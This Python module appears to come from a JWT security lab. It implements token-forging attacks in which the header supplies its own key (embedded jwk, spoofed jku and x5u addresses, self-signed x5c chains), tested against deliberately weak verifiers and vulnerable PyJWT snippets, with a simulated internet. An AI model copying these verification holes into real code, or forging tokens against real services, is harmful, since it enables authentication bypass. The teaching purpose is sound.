"""Keys that the attacker brings along: in the header, or at an address that the header names.

Nothing is fetched: `INTERNET` is a dictionary. Everything weak in here is weak on purpose.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Mapping
from functools import cache, partial
from typing import Any

from cryptography import x509
from cryptography.exceptions import InvalidSignature as Mismatch
from cryptography.hazmat.primitives.serialization import Encoding

from jwtlab.attacks import material, pyjwt
from jwtlab.attacks.model import Attack, Stage, Variant
from jwtlab.checks import Policy, Refusal
from jwtlab.errors import KeyRefused
from jwtlab.jose import jws
from jwtlab.jose.algorithms import Algorithm
from jwtlab.jose.key import Key
from jwtlab.jose.key_set import KeySet

Goal = Mapping[str, Any]
Resolver = Callable[[jws.Case], Key]

MALLORYS_SET = "https://mallory.example/jwks.json"
LOOKALIKE_SET = "https://as.example.mallory.example/jwks.json"
MALLORYS_CERTIFICATE = "https://mallory.example/certificate.pem"


@cache
def internet() -> Mapping[str, str]:
    """The whole internet of this room: address → document. Nothing leaves the process."""
    mallory = json.dumps(material.trusted(material.key(owner="mallory")).to_jwks())
    return {
        "https://as.example/jwks.json": json.dumps(material.trusted(material.key()).to_jwks()),
        MALLORYS_SET: mallory,
        LOOKALIKE_SET: mallory,
        MALLORYS_CERTIFICATE: _as_pem(material.mallory_certificate()),
    }


def _fetch(address: object) -> str:
    if not isinstance(address, str) or address not in internet():
        raise Refusal(f"nothing is found at {address!r}", error=KeyRefused)
    return internet()[address]


def _as_pem(der: bytes) -> str:
    return x509.load_der_x509_certificate(der).public_bytes(Encoding.PEM).decode()


def _victim(title: str, resolve: Resolver) -> Policy:
    """A verifier whose key comes from wherever ``resolve`` finds one."""

    def holds(case: jws.Case) -> bool:
        return case.algorithm.verify(resolve(case), case.reading.signing_input, case.signature)

    return material.weak_signature(f"the signature matches {title}", holds, "key-found")


def forge(goal: Goal, *, original: str, own_key: Key, header: Mapping[str, Any]) -> str:
    """Sign with one's own key, and let the header say where to find its public half."""
    text = material.signing_input(original, goal, **header)
    return material.seal(text, Algorithm.named("ES256").sign(own_key, text.encode()))


def _stage(victim: Policy, header: Mapping[str, Any], goal: Goal, *notes: str) -> Stage:
    good, own = material.token(), material.key(owner="mallory")
    knowledge = {"original": good, "own_key": own, "header": {"kid": None, **header}}
    return Stage(good, knowledge, material.verifier(), victim, notes=notes)


def _variant(name: str, title: str, where: str, resolve: Resolver, header: Mapping[str, Any]) -> Variant:
    return Variant(
        name=name,
        title=title,
        stage=partial(_stage, _victim(where, resolve), header),
        stopped_by=("signature-valid",),
    )


# embedded-jwk


def _embedded(case: jws.Case) -> Key:
    jwk = case.header.get("jwk")
    return Key.from_jwk(jwk) if isinstance(jwk, Mapping) else case.key


EMBEDDED = Attack(
    id="embedded-jwk",
    title="The token brings its own key",
    knows="nothing but the claims that the service expects",
    story="Mallory signs with a fresh key and puts its public half into the header. "
    "The service finds a key in the token, verifies with it, and of course it fits.",
    spec="RFC 7515 §10.3, §4.1.3",
    cves=("CVE-2018-0114", "CVE-2026-34240"),
    forge=forge,
    variants=(
        _variant(
            "jwk",
            "public key in the header",
            "the key in the header",
            _embedded,
            {"jwk": material.key(owner="mallory").public().to_jwk()},
        ),
    ),
    code='header = jwt.get_unverified_header(token)\nkey = jwt.PyJWK(header["jwk"])\n'
    'claims = jwt.decode(token, key, algorithms=["ES256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: Key.from_jwk(header["jwk"]).to_pem()),
)


# jku-spoof


def _key_set_of_token(allowed: Callable[[str], bool], case: jws.Case) -> Key:
    jku = case.header.get("jku")
    if jku is None:
        return case.key
    if not isinstance(jku, str) or not allowed(jku):
        raise Refusal(f"{jku!r} is no address of the issuer", claim="jku", error=KeyRefused)
    return _first_key(_fetch(jku))


def _first_key(document: str) -> Key:
    return next(iter(KeySet.from_jwks(document)))


JKU = Attack(
    id="jku-spoof",
    title="The token names the address of the keys",
    knows="a place on the web for their own keys",
    story="Mallory puts a key set on a web site and its address into the header. "
    "The service fetches whatever the token says, or compares only the beginning of the address.",
    spec="RFC 8725 §2.9, §3.10; RFC 7515 §4.1.2",
    cves=(),
    forge=forge,
    variants=(
        _variant(
            "any-address",
            "any address is fetched",
            "a key from the address in the header",
            partial(_key_set_of_token, lambda jku: True),
            {"jku": MALLORYS_SET},
        ),
        _variant(
            "prefix",
            "the address only has to begin right",
            "a key from an address that begins like the issuer's",
            partial(_key_set_of_token, lambda jku: jku.startswith(material.ISSUER)),
            {"jku": LOOKALIKE_SET},
        ),
    ),
    code="header = jwt.get_unverified_header(token)\n"
    'key = jwt.PyJWKClient(header["jku"]).get_signing_key_from_jwt(token)\n'
    'claims = jwt.decode(token, key, algorithms=["ES256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: _first_key(_fetch(header["jku"])).to_pem()),
)


# x5u-spoof and x5c


def _certificate_of_token(case: jws.Case) -> Key:
    x5u = case.header.get("x5u")
    return case.key if x5u is None else Key.from_pem(_fetch(x5u))


def _chain_in_token(case: jws.Case) -> Key:
    """Each certificate is issued by the next and the last by itself. Whose root that is, nobody asks."""
    x5c = case.header.get("x5c")
    if not isinstance(x5c, list) or not x5c:
        return case.key
    chain = [_certificate(each) for each in x5c]
    try:
        for certificate, issuer in zip(chain, [*chain[1:], chain[-1]], strict=True):
            certificate.verify_directly_issued_by(issuer)
    except (ValueError, TypeError, Mismatch) as error:
        raise Refusal("the chain does not hold together", claim="x5c", error=KeyRefused) from error
    return Key.from_pem(chain[0].public_bytes(Encoding.PEM))


def _certificate(text: str) -> x509.Certificate:
    return x509.load_der_x509_certificate(base64.b64decode(text))


X5U = Attack(
    id="x5u-spoof",
    title="The token names the address of a certificate",
    knows="a place on the web for their own certificate",
    story="Mallory issues a certificate to herself and puts its address into the header. "
    "The service fetches it, reads the key and never asks who vouches for it.",
    spec="RFC 8725 §2.9, §3.10; RFC 7515 §4.1.5",
    cves=(),
    forge=forge,
    variants=(
        _variant(
            "self-signed",
            "a self-signed certificate on the web",
            "the certificate at the address in the header",
            _certificate_of_token,
            {"x5u": MALLORYS_CERTIFICATE},
        ),
    ),
    code="header = jwt.get_unverified_header(token)\n"
    'certificate = load_pem_x509_certificate(requests.get(header["x5u"]).content)\n'
    'claims = jwt.decode(token, certificate.public_key(), algorithms=["ES256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: Key.from_pem(_fetch(header["x5u"])).to_pem()),
)

X5C = Attack(
    id="x5c",
    title="The token brings its own certificate",
    knows="how to make a self-signed certificate",
    story="Mallory puts a self-signed certificate with the issuer's name into the header. "
    "The service checks that the chain holds together, and forgets to ask whether it ends at a root it trusts.",
    spec="RFC 7515 §4.1.6, §10.3",
    cves=(),
    forge=forge,
    variants=(
        _variant(
            "self-signed",
            "a self-signed chain in the header",
            "the certificate in the header",
            _chain_in_token,
            {"x5c": [base64.b64encode(material.mallory_certificate()).decode()]},
        ),
    ),
    code="header = jwt.get_unverified_header(token)\n"
    'certificate = load_der_x509_certificate(b64decode(header["x5c"][0]))\n'
    'claims = jwt.decode(token, certificate.public_key(), algorithms=["ES256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: _certificate(header["x5c"][0]).public_key()),
)
